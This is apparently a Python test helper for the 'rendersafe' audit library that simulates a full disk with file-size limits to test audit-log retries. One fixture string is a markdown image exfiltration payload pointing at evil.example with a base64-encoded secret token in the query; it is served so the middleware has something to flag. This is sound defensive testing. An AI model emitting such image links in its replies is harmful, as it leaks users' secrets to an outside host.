"""Children for tests/test_audit_faults.py: an audit file on a full disk, made real
with a file-size limit (RLIMIT_FSIZE, SIGXFSZ ignored so a write fails with EFBIG).

    python tests/full_disk.py log PATH CAP COUNT KEEP LIFT   300 records, the file capped
    python tests/full_disk.py drain PATH COUNT ROOM          a full disk, then ROOM bytes
    python tests/full_disk.py serve PATH                     uvicorn, audit_required

`log` emits COUNT records into a JsonlSink whose file may grow CAP bytes past its
size now, keeping at most KEEP records for a retry (0: the old writer's behaviour, a
failed batch dropped); LIFT=1 lifts the cap afterwards, as space returning. It prints
{"lost": ..., "failures": ...}. `drain` emits COUNT records with no room at all, then
lets the file grow ROOM bytes and flushes, then lifts the cap: it prints how many lines
the file had after each step. `serve` prints its port, then serves `/reply` (an
exfiltration image, so each reply has a record), `/cap?bytes=N` (the file may grow N
bytes more) and `/lift`.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import resource
import signal
import socket
import sys
from collections.abc import Iterator

import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import PlainTextResponse
from starlette.routing import Route

from rendersafe import Policy
from rendersafe.audit import AuditLog, JsonlSink, Source
from rendersafe.middleware import RenderSafeMiddleware

_HARD = resource.getrlimit(resource.RLIMIT_FSIZE)[1]
IMG = "Done. ![a](https://evil.example/p.png?d=c2VjcmV0LXRva2VuLTEyMzQ1Njc4)"


def cap(path: str, more: int) -> None:
    """Let the file at `path` grow `more` bytes (the process's every file, in fact)."""
    size = os.path.getsize(path) if os.path.exists(path) else 0
    resource.setrlimit(resource.RLIMIT_FSIZE, (size + more, _HARD))


def lift() -> None:
    resource.setrlimit(resource.RLIMIT_FSIZE, (_HARD, _HARD))


def log(path: str, limit: int, count: int, keep: int, lifted: bool) -> None:
    try:
        audit = AuditLog([JsonlSink(path)], retry_records=keep, retry_interval=0.05)
    except TypeError:  # a rendersafe without retries
        audit = AuditLog([JsonlSink(path)])
    cap(path, limit)
    for number in range(count):
        audit.emit(audit.event_record("error", Source(kind="batch", line=number), "d", "m" * 400))
        if number % 10 == 9:
            audit.flush()  # batches of 10, as a service's records come
    audit.flush()
    if lifted:
        lift()
        audit.flush()
    audit.close()
    print(json.dumps({"lost": getattr(audit, "lost", None), "failures": audit.failures}))


def drain(path: str, count: int, room: int) -> None:
    audit = AuditLog([JsonlSink(path)], retry_interval=0.05)
    cap(path, 0)
    for number in range(count):
        audit.emit(audit.event_record("error", Source(kind="batch", line=number), "d", "m" * 400))
    audit.flush()
    lines = [_lines(path)]
    cap(path, room)
    audit.flush()
    lines.append(_lines(path))
    backlog = audit.backlog
    lift()
    audit.flush()
    lines.append(_lines(path))
    audit.close()
    print(json.dumps({"lines": lines, "backlog": backlog, "lost": audit.lost}))


def _lines(path: str) -> int:
    with open(path, "rb") as file:
        return file.read().count(b"\n")


@contextlib.contextmanager
def file_size_signal_ignored() -> Iterator[None]:
    """While it lasts, and in every child started meanwhile (an ignored signal stays
    ignored across exec), a write past the file-size limit fails with EFBIG instead of
    killing the process."""
    previous = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    try:
        yield
    finally:
        signal.signal(signal.SIGXFSZ, previous)


def cap_process(pid: int, path: str, more: int) -> None:
    """Let process `pid` grow the file at `path` `more` bytes past its size now."""
    resource.prlimit(pid, resource.RLIMIT_FSIZE, (os.path.getsize(path) + more, _HARD))


def lift_process(pid: int) -> None:
    resource.prlimit(pid, resource.RLIMIT_FSIZE, (_HARD, _HARD))


def serve(path: str) -> None:
    try:
        audit = AuditLog([JsonlSink(path)], retry_interval=0.05)
    except TypeError:  # a rendersafe without retries
        audit = AuditLog([JsonlSink(path)])

    async def reply(request: Request) -> PlainTextResponse:
        return PlainTextResponse(IMG, media_type="text/markdown")

    async def set_cap(request: Request) -> PlainTextResponse:
        audit.flush()
        cap(path, int(request.query_params["bytes"]))
        return PlainTextResponse("capped")

    async def set_lift(request: Request) -> PlainTextResponse:
        lift()
        ok = await asyncio.to_thread(audit.flush)
        return PlainTextResponse(f"lifted {ok} {getattr(audit, 'lost', None)}")

    routes = [Route("/reply", reply), Route("/cap", set_cap), Route("/lift", set_lift)]
    app = RenderSafeMiddleware(
        Starlette(routes=routes), policy=Policy(audit_required=True), audit=audit, paths=["/reply"]
    )
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", 0))
    print(listener.getsockname()[1], flush=True)
    config = uvicorn.Config(app, log_level="warning", access_log=False, lifespan="off")
    asyncio.run(uvicorn.Server(config).serve(sockets=[listener]))


if __name__ == "__main__":
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails instead
    if sys.argv[1] == "log":
        path, limit, count, keep, lifted = sys.argv[2:7]
        log(path, int(limit), int(count), int(keep), lifted == "1")
    elif sys.argv[1] == "drain":
        drain(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]))
    else:
        serve(sys.argv[2])
